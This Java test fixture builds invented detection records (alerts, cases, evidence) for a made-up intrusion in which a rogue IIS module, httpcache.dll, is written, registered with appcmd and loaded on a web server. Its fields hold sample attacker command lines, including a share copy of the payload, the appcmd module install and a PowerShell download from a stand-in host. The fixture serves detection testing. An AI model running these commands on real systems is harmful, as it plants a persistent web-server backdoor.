package dev.iischain.event;

import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.util.List;
import java.util.SortedMap;
import java.util.TreeMap;
import org.jspecify.annotations.Nullable;

/** Records of one invented intrusion, for tests of everything that writes or shows records. */
public final class SampleRecords {

  public static final String CASE_ID = "ch-" + "k7xq2m4tzv5wbn3a".repeat(2);
  public static final String WRITE_ALERT_ID = "al-" + "a2b3c4d5e6f7g2h3".repeat(2);
  public static final String REGISTRATION_ALERT_ID = "al-" + "m4n5o6p7q2r3s4t5".repeat(2);
  public static final String LONE_ALERT_ID = "al-" + "u6v7w2x3y4z5a6b7".repeat(2);
  public static final String SHA256 =
      "5d1c8f0e9b7a46325c4f3e2d1b0a99887766554433221100ffeeddccbbaa9988";

  private static final String PATH = "c:\\windows\\system32\\inetsrv\\httpcache.dll";
  private static final String RAW = "C:\\Windows\\System32\\inetsrv\\httpcache.dll";
  private static final Alert.Host HOST =
      new Alert.Host(
          "host:web01",
          "web01",
          "web01.corp.example",
          List.of("aid:0f1e2d3c4b5a69788796a5b4c3d2e1f0", "mde:adc83b19e793491b1c6ea0fd8b46cd9f"));
  private static final Alert.Dll DLL =
      new Alert.Dll(
          PATH,
          List.of(
              "%windir%\\System32\\inetsrv\\httpcache.dll",
              RAW, "\\Device\\HarddiskVolume3\\Windows\\System32\\inetsrv\\httpcache.dll"),
          List.of(SHA256),
          "untrusted");
  private static final Alert.Actor DROPPER =
      new Alert.Actor(
          "C:\\Windows\\System32\\cmd.exe",
          "cmd.exe /c copy \\\\10.0.0.9\\share\\hc.tmp"
              + " C:\\Windows\\System32\\inetsrv\\httpcache.dll",
          "CORP\\svc-deploy",
          "4711",
          "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
          "w3wp.exe -ap \"DefaultAppPool\"");
  private static final Alert.Actor APPCMD =
      new Alert.Actor(
          "C:\\Windows\\System32\\inetsrv\\appcmd.exe",
          "appcmd.exe install module /name:HttpCacheExt"
              + " /image:%windir%\\System32\\inetsrv\\httpcache.dll",
          "CORP\\svc-deploy",
          "4832",
          "C:\\Windows\\System32\\cmd.exe",
          null);
  private static final Alert.Actor WORKER =
      new Alert.Actor(
          "\\Device\\HarddiskVolume3\\Windows\\System32\\inetsrv\\w3wp.exe",
          "w3wp.exe -ap \"DefaultAppPool\"",
          "IIS APPPOOL\\DefaultAppPool",
          "6020",
          "C:\\Windows\\System32\\svchost.exe",
          null);

  private SampleRecords() {}

  /** The write of the module file, as Defender saw it. */
  public static EvidenceEntry write() {
    return entry(
        'a',
        "2026-11-20T13:10:07.300Z",
        "write",
        EventKind.FILE_EVENT,
        "cmd.exe wrote httpcache.dll into the IIS folder",
        List.of("iis_module_file_written"),
        new EvidenceEntry.Dll(PATH, RAW, "path", SHA256),
        DROPPER,
        new EvidenceEntry.Source(
            "defender",
            "defender-streaming",
            "web01.corp.example",
            "DeviceFileEvents",
            "FileCreated",
            "43053"));
  }

  /** The registration, as Sysmon saw it. */
  public static EvidenceEntry registration() {
    return entry(
        'b',
        "2026-11-20T13:12:41.087Z",
        "registration",
        EventKind.PROCESS_CREATION,
        "appcmd.exe installed the native module HttpCacheExt from httpcache.dll",
        List.of("appcmd_install_module", "iis_native_module_installation"),
        new EvidenceEntry.Dll(PATH, "%windir%\\System32\\inetsrv\\httpcache.dll", "path", null),
        APPCMD,
        new EvidenceEntry.Source(
            "sysmon",
            "winlogbeat",
            "WEB01.corp.example",
            "Microsoft-Windows-Sysmon/Operational",
            "1",
            "918274"));
  }

  /** The load, as Falcon saw it. */
  public static EvidenceEntry load() {
    return entry(
        'c',
        "2026-11-20T13:15:02.640Z",
        "load",
        EventKind.IMAGE_LOAD,
        "w3wp.exe loaded httpcache.dll, which is not signed",
        List.of("w3wp_loads_unsigned_module"),
        new EvidenceEntry.Dll(
            PATH,
            "\\Device\\HarddiskVolume3\\Windows\\System32\\inetsrv\\httpcache.dll",
            "hash",
            SHA256),
        WORKER,
        new EvidenceEntry.Source(
            "falcon",
            "falcon-fdr",
            "WEB01",
            "ClassifiedModuleLoad",
            "ClassifiedModuleLoad",
            "6b2d0b5e-0001"));
  }

  /** The alert about the write. */
  public static Alert writeAlert() {
    return alert(
        WRITE_ALERT_ID,
        "Module file written into the IIS folder",
        "medium",
        34,
        write(),
        "iis_module_file_written",
        1,
        "critical",
        CASE_ID);
  }

  /** The alert about the registration. */
  public static Alert registrationAlert() {
    return alert(
        REGISTRATION_ALERT_ID,
        "Native IIS module installed with appcmd",
        "high",
        60,
        registration(),
        "appcmd_install_module",
        3,
        null,
        CASE_ID);
  }

  /** An alert about no module file and in no case. */
  public static Alert loneAlert() {
    return new Alert(
        Alert.SCHEMA,
        LONE_ALERT_ID,
        "default",
        "IIS HTTP logging switched off",
        "low",
        20,
        "low",
        null,
        Instant.parse("2026-11-20T09:00:00Z"),
        Instant.parse("2026-11-20T09:00:00Z"),
        1,
        new Alert.Host("host:web02", "web02", null, List.of()),
        List.of(
            new Alert.Rule(
                "appcmd_http_logging_off",
                "0d4a6b2e-6f3c-4c55-9d0b-8a1f5f0f7c11",
                "core",
                "low",
                1,
                null)),
        List.of("T1562.002"),
        null,
        null,
        null,
        List.of(new Alert.Observable("host", "web02")),
        List.of(),
        null,
        Alert.OPEN,
        List.of());
  }

  /** The complete chain. */
  public static Case completeCase() {
    return new Case(
        Case.SCHEMA,
        CASE_ID,
        3,
        "n4v6q2zt7k3m5x2bn4v6q2zt7k3m5x2b",
        "complete",
        "write_registration_load",
        List.of("registration_load", "write_registration", "write_registration_load"),
        "IIS module httpcache.dll was written, registered and loaded on web01",
        "critical",
        92,
        "high",
        "default",
        HOST,
        DLL,
        write().eventTime(),
        load().eventTime(),
        List.of(
            seen("write", write().eventTime()),
            seen("registration", registration().eventTime()),
            seen("load", load().eventTime())),
        List.of(write(), registration(), load()),
        List.of(WRITE_ALERT_ID, REGISTRATION_ALERT_ID),
        List.of("T1505.004"),
        List.of(
            new Alert.Observable("host", "web01"),
            new Alert.Observable("file-path", PATH),
            new Alert.Observable("sha256", SHA256),
            new Alert.Observable("user", "CORP\\svc-deploy"),
            new Alert.Observable("process", "C:\\Windows\\System32\\cmd.exe"),
            new Alert.Observable(
                "command-line", "powershell -c iwr https://cdn.update.example/hc.tmp -o hc.tmp")),
        List.of(
            "The write and the registration name the same path.",
            "The load has the SHA-256 of the file that was written.",
            "Write 18, registration 26, load 22, corroboration 6 and the complete chain 20 make"
                + " 92."),
        List.of(
            new Case.Link("Runbook: malicious IIS module", "https://wiki.corp.example/iis-module")),
        List.of());
  }

  /** The same chain before the load was seen. */
  public static Case partialCase() {
    Case full = completeCase();
    return new Case(
        Case.SCHEMA,
        "ch-" + "b2c3d4e5f6g7h2i3".repeat(2),
        1,
        "w3x4y5z6a7b2c3d4w3x4y5z6a7b2c3d4",
        "partial",
        "write_registration",
        List.of("write_registration"),
        "IIS module httpcache.dll was written and registered on web01",
        "high",
        64,
        "medium",
        full.tenant(),
        full.host(),
        full.dll(),
        full.firstSeen(),
        registration().eventTime(),
        List.of(
            seen("write", write().eventTime()),
            seen("registration", registration().eventTime()),
            new Case.StageState("load", "missing", null, null, 0)),
        List.of(write(), registration()),
        full.alertIds(),
        full.attack(),
        List.of(),
        List.of("The write and the registration name the same path."),
        List.of(),
        List.of());
  }

  /** A record that is not JSON. */
  public static DeadLetter deadLetter() {
    return new DeadLetter(
        DeadLetter.Reason.MALFORMED_JSON,
        "The record starts like JSON and ends after 12 bytes in the middle of a text.",
        "iis-chain.telemetry.falcon",
        3,
        81_000,
        Instant.parse("2026-11-20T13:15:02Z").toEpochMilli(),
        "{\"aid\":\"0f1e".getBytes(StandardCharsets.UTF_8),
        false);
  }

  /** A chain that was never loaded. */
  public static NearMiss nearMiss() {
    return new NearMiss(
        NearMiss.SCHEMA,
        "default",
        HOST,
        new NearMiss.Dll(PATH),
        List.of(
            new NearMiss.SeenStage("write", write().eventTime(), write().eventTime(), 1),
            new NearMiss.SeenStage(
                "registration", registration().eventTime(), registration().eventTime(), 1)),
        List.of("load"),
        Instant.parse("2026-11-27T13:12:41.087Z"),
        "No worker process loaded the module within 7 days of its registration.");
  }

  /** Counts that fit the other samples. */
  public static Summary summary() {
    return Summary.of(
        1204,
        1180,
        new Summary.Events(
            counts("process_creation", 9, "file_event", 6, "image_load", 8),
            counts("sysmon", 12, "falcon", 6, "defender", 5),
            counts("winlogbeat", 12, "falcon-fdr", 6, "defender-streaming", 5)),
        new Summary.DeadLetters(1, counts("malformed-json", 1)),
        new Summary.Alerts(
            3,
            counts(
                "appcmd_install_module",
                1,
                "iis_module_file_written",
                1,
                "appcmd_http_logging_off",
                1),
            counts("medium", 1, "high", 1, "low", 1)),
        new Summary.Cases(1, counts("complete", 1)),
        new Summary.Suppressed(
            2,
            counts("alert", 1, "case", 1),
            counts("waf-rollout", 2),
            counts("iis_module_file_written", 1)),
        new Summary.NearMisses(1, counts("load", 1)),
        "batch");
  }

  private static SortedMap<String, Long> counts(Object... pairs) {
    SortedMap<String, Long> counts = new TreeMap<>();
    for (int i = 0; i < pairs.length; i += 2) {
      counts.put((String) pairs[i], ((Integer) pairs[i + 1]).longValue());
    }
    return counts;
  }

  private static Case.StageState seen(String stage, Instant time) {
    return new Case.StageState(stage, "seen", time, time, 1);
  }

  private static EvidenceEntry entry(
      char id,
      String time,
      String stage,
      EventKind kind,
      String summary,
      List<String> rules,
      EvidenceEntry.Dll dll,
      Alert.Actor process,
      EvidenceEntry.Source source) {
    return new EvidenceEntry(
        "ev-" + String.valueOf(id).repeat(32),
        Instant.parse(time),
        stage,
        kind.category(),
        summary,
        rules,
        dll,
        process,
        source,
        null);
  }

  private static Alert alert(
      String id,
      String title,
      String level,
      int score,
      EvidenceEntry evidence,
      String rule,
      long count,
      @Nullable String vendorSeverity,
      @Nullable String caseId) {
    return new Alert(
        Alert.SCHEMA,
        id,
        "default",
        title,
        level,
        score,
        "medium",
        vendorSeverity,
        evidence.eventTime(),
        evidence.eventTime().plusSeconds(count - 1),
        count,
        HOST,
        List.of(
            new Alert.Rule(
                rule, "6c1d8f0e-5a53-4a6c-9a86-2f1a0d6f1f01", "core", level, 1, vendorSeverity)),
        List.of("T1505.004"),
        evidence.stage(),
        DLL,
        evidence.process(),
        List.of(new Alert.Observable("file-path", PATH)),
        List.of(evidence),
        caseId,
        Alert.OPEN,
        List.of());
  }
}
